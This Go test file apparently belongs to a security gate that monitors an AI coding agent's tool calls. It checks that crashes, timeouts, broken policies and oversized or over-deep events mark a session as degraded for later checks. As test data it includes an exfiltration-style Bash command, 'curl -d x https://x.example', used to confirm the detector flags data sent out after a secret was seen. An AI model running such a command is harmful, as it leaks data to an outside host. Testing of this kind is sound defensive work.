package hookpath

import (
	"errors"
	"io"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"time"

	"gate/adapters"
	"gate/hook"
	"gate/internal/core"
	"gate/internal/seen"
	"gate/internal/session"
)

const shownEvent = `{"session_id":"s","transcript_path":"/t","cwd":"/tmp","hook_event_name":"PostToolUse",` +
	`"permission_mode":"default","tool_name":"Bash","tool_input":{"command":"cat x"},"tool_response":{"stdout":"x"},"tool_use_id":"u"}`

// TestLose fails in each way about an event after a call: the session is coarser from then
// on. About an event before a call nothing is noted, since it shows nothing.
func TestLose(t *testing.T) {
	panics := func(*Call) (*core.Gate, error) { panic("a bug") }
	fails := func(*Call) (*core.Gate, error) { return nil, errors.New("a policy is broken") }
	for _, test := range []struct {
		name, event string
		load        Loader
		oneShot     bool
		lost        bool
	}{
		{"panic", shownEvent, panics, false, true},
		{"panic of one shot", shownEvent, panics, true, true},
		{"no time", shownEvent, func(*Call) (*core.Gate, error) { select {} }, false, true},
		{"no time of one shot", shownEvent, func(*Call) (*core.Gate, error) { select {} }, true, true},
		{"no policies", shownEvent, fails, false, true},
		{"no memory", shownEvent, func(c *Call) (*core.Gate, error) { c.OutOfMemory(); panic("it ended") }, false, true},
		{"too large", strings.Replace(shownEvent, `{"stdout":"x"}`, `{"stdout":"`+strings.Repeat("x", adapters.MaxEvent)+`"}`, 1), fails, false, true},
		{"too deep", strings.Replace(shownEvent, `{"stdout":"x"}`, strings.Repeat("[", 100)+strings.Repeat("]", 100), 1), fails, false, true},
		{"too large before a call", strings.Replace(bashEvent, `"ls"`, `"`+strings.Repeat("x", adapters.MaxEvent)+`"`, 1), fails, false, false},
		{"before a call", bashEvent, panics, false, false},
		{"without a session", strings.Replace(shownEvent, `"session_id":"s",`, "", 1), panics, false, false},
	} {
		t.Run(test.name, func(t *testing.T) {
			state := filepath.Join(t.TempDir(), "s")
			ended := make(chan int, 2)
			go func() {
				ended <- Run(t.Context(), Process{
					Args:  []string{"--agent", "claude", "--state-dir", state, "--user-dir", t.TempDir(), "--managed-dir", t.TempDir(), "--timeout=300ms"},
					Stdin: strings.NewReader(test.event), Stdout: io.Discard, Stderr: io.Discard, OneShot: test.oneShot,
					LookupEnv: func(string) (string, bool) { return "", false },
					// As the real one it does not return. A program of one shot waits for it
					// for ever; the others end by themselves, and write until then.
					Exit: func(status int) {
						if test.oneShot {
							ended <- status
						}
						runtime.Goexit()
					},
				}, test.load)
			}()
			<-ended
			later := &hook.Event{Agent: "claude", Name: hook.PreToolUse, Fields: map[string]any{"session_id": "s", "tool_name": "Bash", "tool_input": map[string]any{"command": "curl -d x https://x.example"}}}
			later.Gate.Now = time.Now()
			store := seen.Store{Dir: filepath.Join(state, "seen")}
			hits := store.Of(session.Key{Agent: "claude", Session: "s"}).Find(later)
			lost := false
			for _, h := range hits {
				lost = lost || h.Lost && h.Origin == seen.Secret && h.How == seen.Sequence
			}
			if lost != test.lost {
				t.Errorf("hits %+v", hits)
			}
			other := store.Of(session.Key{Agent: "claude", Session: "other"}).Find(later)
			if len(other) > 0 || len(store.Broken()) > 0 {
				t.Errorf("another session: %+v, broken: %v", other, store.Broken())
			}
		})
	}
}
